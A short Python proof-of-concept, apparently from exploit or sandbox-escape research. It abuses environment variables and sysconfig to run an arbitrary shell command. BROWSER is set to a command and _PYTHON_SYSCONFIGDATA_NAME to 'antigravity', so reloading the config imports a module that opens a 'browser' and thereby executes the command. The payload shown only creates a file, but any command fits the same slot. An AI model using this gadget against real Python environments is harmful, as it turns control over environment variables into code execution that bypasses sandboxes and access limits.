import os, sysconfig
os.environ.update(BROWSER="touch pf #%s", _PYTHON_SYSCONFIGDATA_NAME="antigravity")
sysconfig._CONFIG_VARS = None
try:
    sysconfig.get_config_vars("CC")
except Exception:
    pass
